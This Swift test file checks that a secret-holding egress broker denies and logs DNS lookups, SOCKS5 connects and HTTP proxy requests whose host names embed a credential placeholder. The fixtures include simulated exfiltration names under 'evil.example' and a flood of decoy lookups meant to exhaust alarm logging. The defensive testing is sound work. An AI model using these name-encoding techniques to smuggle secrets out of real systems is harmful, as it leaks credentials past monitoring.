import Broker
import BrokerLink
import Domain
import Egress
import NIOCore
import Synchronization
import Testing

@Suite("a placeholder in a name that is looked up or connected to is denied and told")
struct PlaceholderNameTests {
    private static let alarm = RuleID("credential-placeholder")

    private static func secret(length: Int = 48) throws -> HeldSecret {
        var random = SystemRandomNumberGenerator()
        return HeldSecret(
            name: "KEY",
            placeholder: Placeholder(prefix: "pk-", length: length, random: &random),
            bindings: [try SecretBinding(host: "api.example.com", slot: HeaderSlot(field: "x-api-key"))]
        )
    }

    private static func give(_ secret: HeldSecret, to store: SettingsStore) {
        var settings = store.current
        settings.secrets = [secret]
        store.replace(settings)
    }

    /// What a program could make of it in a name.
    private static func names(_ secret: HeldSecret) -> [String] {
        let text = secret.placeholder.text
        let core = String(text.suffix(Placeholder.coreCount))
        return [
            "\(text).wide.example.com", "\(core.lowercased()).evil.example", "x\(core.uppercased())y.evil.example",
            "\(core.prefix(9)).\(core.dropFirst(9)).evil.example",
        ]
    }

    private func ask(_ responder: NamesResponder, _ fixture: NamesFixture, _ name: String) -> TestAnswer? {
        guard
            case .now(let bytes) = responder.respond(
                to: TestQuestion(name, edns: 1232).bytes,
                by: .datagram,
                on: fixture.loop
            )
        else { return nil }
        return TestAnswer(bytes)
    }

    @Test func inQuestionsForNames() throws {
        let fixture = try NamesFixture(["*.wide.example.com"])
        let secret = try Self.secret()
        Self.give(secret, to: fixture.settings)
        let responder = fixture.responder()
        for name in Self.names(secret) { #expect(ask(responder, fixture, name)?.code == 5, "\(name)") }
        #expect(fixture.ledger.records.map(\.rule) == Self.names(secret).map { _ in Self.alarm })
        #expect(fixture.announced.withLock { $0.isEmpty })
    }

    /// A program could ask for so many other names first that nothing more is taken down.
    @Test func behindAFloodOfOtherNames() throws {
        let fixture = try NamesFixture(["*.wide.example.com"])
        let secret = try Self.secret()
        Self.give(secret, to: fixture.settings)
        let responder = fixture.responder()
        for number in 0..<1100 {
            fixture.clock.withLock { $0 += 1 }
            _ = ask(responder, fixture, "n\(number).evil.example")
        }
        let before = fixture.ledger.records.count
        let core = String(secret.placeholder.text.suffix(Placeholder.coreCount))
        for number in 0..<300 {
            fixture.clock.withLock { $0 += 1 }
            _ = ask(responder, fixture, "n\(number).\(core).evil.example")
        }
        let told = fixture.ledger.records.dropFirst(before)
        #expect(told.allSatisfy { $0.rule == Self.alarm } && told.count == NetworkUse.alarmsMax)
    }

    @Test func inWhatDoorsAreAskedFor() throws {
        let yard = try TestYard(allow: ["*.wide.example.com", "*.wide.example.com:22"])
        defer { yard.stop() }
        // As long as a key may be, it is too long for a name.
        let secret = try Self.secret(length: 108)
        Self.give(secret, to: yard.store)
        let text = secret.placeholder.text
        let names = Self.names(secret).dropFirst() + ["\(text).wide.example.com", "a_\(text).evil.example"]
        for name in names {
            let (_, head) = try yard.connect("\(name):443")
            #expect(head.contains("Bailey-Rule: credential-placeholder"), "\(name): \(head)")
            let wire = try Wire(port: yard.socksPort)
            try wire.say([5, 1, 0])
            #expect(try wire.hear(exactly: 2) == [5, 0])
            try wire.say([5, 1, 0, 3, UInt8(name.utf8.count)] + Array(name.utf8) + [0, 22])
            #expect(wire.hearAll().prefix(2) == [5, 2], "\(name)")
        }
        let wire = try Wire(port: yard.proxyPort)
        try wire.say("GET http://\(text).evil.example/ HTTP/1.1\r\nHost: \(text).evil.example\r\n\r\n")
        #expect(String(decoding: wire.hearAll(), as: UTF8.self).contains("credential-placeholder"))
        let records = yard.ledger.all
        #expect(records.count == 2 * names.count + 1)
        #expect(records.allSatisfy { $0.rule == Self.alarm && $0.verdict == .deny }, "\(records.map(\.rule))")
    }
}
